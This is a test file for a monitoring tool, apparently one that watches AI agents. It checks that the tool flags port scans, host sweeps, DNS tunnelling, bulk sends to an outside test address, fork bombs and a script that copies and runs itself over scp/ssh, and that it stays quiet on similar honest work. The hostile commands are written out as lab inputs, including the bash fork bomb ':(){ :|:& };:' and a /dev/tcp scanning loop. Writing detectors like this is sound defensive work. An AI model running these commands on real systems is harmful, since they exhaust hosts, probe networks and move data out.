"""Scans, tunnels in DNS, sent volume and fork bombs, and honest work that resembles them.

Everything is real: network namespaces, the probes, `agentwatch run`, and a replay of what it recorded,
which gives the same bytes.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from agentwatch.demo.hosts import PYTHON, Host, Lab
from agentwatch.demo.materials import clean_environment
from tests.lab import PROGRAMS, compiled, script

pytestmark = [pytest.mark.root, pytest.mark.skipif(os.geteuid() != 0, reason="needs root")]

SECONDS = 60
PORT = 7000
OUTSIDE = "203.0.113.7"  # TEST-NET-3 (RFC 5737)
RULES = """\
title: Behaviour of the network
id: 7f0e0b6e-3f0e-4a53-9d5f-6a3f2f1d0c01
status: test
logsource: {product: agentwatch, category: network_behaviour}
detection: {selection: {Kind|exists: true}, condition: selection}
level: high
---
title: Behaviour of processes
id: 7f0e0b6e-3f0e-4a53-9d5f-6a3f2f1d0c02
status: test
logsource: {product: agentwatch, category: process_behaviour}
detection: {selection: {Kind|exists: true}, condition: selection}
level: high
agentwatch: {response: RESPONSE, scope: agent}
"""


@dataclass(frozen=True)
class Network:
    lab: Lab
    host: Host


@pytest.fixture(scope="module")
def network() -> Iterator[Network]:
    """A host that takes data, at its own address and at one outside every cluster."""
    with Lab() as lab:
        host = lab.start("swallow", [*PYTHON, str(PROGRAMS / "swallow.py"), str(PORT)])
        inside = ["nsenter", f"--net=/proc/{host.process.pid}/ns/net", "--"]
        subprocess.run([*inside, "ip", "addr", "add", f"{OUTSIDE}/32", "dev", "lo"], check=True)
        subprocess.run(lab.inside(["ip", "route", "add", OUTSIDE, "via", host.ipv4]), check=True)
        yield Network(lab, host)


def events(command: list[str], tmp_path: Path, response: str = "kill") -> list[dict[str, Any]]:
    """What a command is told of; its trace replays to the same alerts.

    `response` is that to behaviour of processes.
    """
    alerts, trace, again = tmp_path / "alerts", tmp_path / "trace", tmp_path / "again"
    rules = tmp_path / "rules.yml"
    rules.write_text(RULES.replace("RESPONSE", response))
    with_rules = ["--rules", str(rules), "--alerts"]
    run = [sys.executable, "-m", "agentwatch", "run", "--mode", "enforce", *with_rules, str(alerts)]
    subprocess.run(
        [*run, "--record", str(trace), "--", *command],
        capture_output=True,
        stdin=subprocess.DEVNULL,
        start_new_session=True,
        env=clean_environment() | {"PYTHONPATH": str(Path(__file__).parents[2])},
        timeout=SECONDS,
        check=False,
    )
    replay = [sys.executable, "-m", "agentwatch", "replay", str(trace), *with_rules, str(again)]
    replayed = subprocess.run(replay, capture_output=True, text=True, timeout=SECONDS, check=False)
    assert replayed.returncode == 0, replayed.stderr
    assert again.read_bytes() == alerts.read_bytes()
    told = [json.loads(line) for line in alerts.read_text().splitlines()]
    return [{**alert["event"], "flow": alert.get("flow")} for alert in told]


def of_kind(found: list[dict[str, Any]], kind: str) -> list[dict[str, Any]]:
    return [event for event in found if event["Kind"] == kind]


def test_ports_of_a_host(network: Network, tmp_path: Path) -> None:
    command = network.lab.inside(script("scan", "1-200", network.host.ipv4))
    (event, *_) = of_kind(events(command, tmp_path), "port_scan")
    assert event["flow"]["remote"].startswith(network.host.ipv4)
    assert event["Failed"] >= 10


def test_hosts_that_do_not_answer(network: Network, tmp_path: Path) -> None:
    below = network.host.ipv4.rpartition(".")[0]
    command = network.lab.inside(script("scan", "22", *(f"{below}.{number}" for number in range(100, 140))))
    (event, *_) = of_kind(events(command, tmp_path), "host_sweep")
    assert event["Targets"] >= 10
    assert event["flow"]["remote"].endswith(":22")


def test_a_process_for_each_port(network: Network, tmp_path: Path) -> None:
    loop = f"for p in $(seq 1 30); do (: </dev/tcp/{network.host.ipv4}/$p) 2>/dev/null; done"
    (event, *_) = of_kind(events(network.lab.inside(["bash", "-c", loop]), tmp_path), "port_scan")
    assert event["Processes"] >= 10


def test_a_service_that_is_waited_for_is_not_scanned(network: Network, tmp_path: Path) -> None:
    loop = f"for n in $(seq 60); do (: </dev/tcp/{network.host.ipv4}/8000) 2>/dev/null; done"
    reach = f"for n in $(seq 20); do : </dev/tcp/{network.host.ipv4}/{PORT}; done"
    assert events(network.lab.inside(["bash", "-c", f"{loop}; {reach}"]), tmp_path) == []


def test_data_in_names(tmp_path: Path) -> None:
    (event, *_) = events(_own_network(*script("dns_tunnel", "tunnel")), tmp_path)
    assert (event["Kind"], event["Domain"], event["QueryType"]) == ("dns_tunnel", "t.example", "TXT")


def test_many_names_without_data(tmp_path: Path) -> None:
    assert events(_own_network(*script("dns_tunnel", "honest")), tmp_path) == []


def _own_network(*command: str) -> list[str]:
    return ["unshare", "--net", "sh", "-c", 'ip link set lo up && exec "$@"', "sh", *command]


def test_volume_to_the_outside(network: Network, tmp_path: Path) -> None:
    command = network.lab.inside(script("send_much", OUTSIDE, PORT, 200_000_000))
    (event,) = events(command, tmp_path)
    assert (event["Kind"], event["Magnitude"]) == ("exfiltration", "small")
    assert event["flow"]["remote"] == f"{OUTSIDE}:{PORT}"
    assert event["BytesOut"] < 100_000_000  # told while it ran


def test_volume_within_the_cluster(network: Network, tmp_path: Path) -> None:
    command = network.lab.inside(script("send_much", network.host.ipv4, PORT, 50_000_000))
    assert events(command, tmp_path) == []


@pytest.mark.parametrize(("bomb", "user", "most"), [("shell", 64123, 200), ("program", 64124, 500)])
def test_fork_bombs(tmp_path: Path, bomb: str, user: int, most: int) -> None:
    """Of a user who may have so many processes, and has no others."""
    command = {"shell": ["bash", "-c", ":(){ :|:& };:"], "program": [str(compiled("fork_bomb"))]}[bomb]
    # A minute at most, whatever becomes of the test and of the watch.
    limit = [
        "timeout",
        "--signal=KILL",
        "60",
        "prlimit",
        f"--nproc={most}",
        "setpriv",
        f"--reuid={user}",
        "--clear-groups",
    ]
    (event, *_) = of_kind(events([*limit, *command], tmp_path), "fork_storm")
    assert event["Forks"] <= 1024
    assert event["Depth"] >= 3


def test_a_script_that_spreads(tmp_path: Path) -> None:
    worker = tmp_path / "worker.py"
    worker.write_text(
        "import subprocess\n"
        "quiet = ['-o', 'ConnectTimeout=1', '-o', 'BatchMode=yes']\n"
        "subprocess.run(['scp', *quiet, 'worker.py', 'root@127.0.0.9:/tmp/w.py'])\n"
        "subprocess.run(['ssh', *quiet, 'root@127.0.0.9', 'python3 /tmp/w.py'])\n"
    )
    command = _own_network("sh", "-c", f"cd {tmp_path} && exec /usr/bin/python3 worker.py")
    found = events(command, tmp_path, response="alert")
    assert [event["Kind"] for event in found] == ["self_transfer", "self_replication"]
    assert found[1]["SourceFilename"] == str(worker)


def test_a_deployment(tmp_path: Path) -> None:
    for name in ("model.bin", "deploy.sh"):
        (tmp_path / name).touch()
    quiet = "-o ConnectTimeout=1 -o BatchMode=yes"
    lines = f"cd {tmp_path}; scp {quiet} model.bin 127.0.0.9:; ssh {quiet} 127.0.0.9 python3 serve.py; true"
    assert events(_own_network("bash", "-c", lines), tmp_path) == []


def test_a_parallel_build(tmp_path: Path) -> None:
    """What make -j does: many short commands, some at a time."""
    command = ["sh", "-c", "seq 600 | xargs -P 16 -I{} sh -c ': $(true) {}'"]
    assert events(command, tmp_path) == []
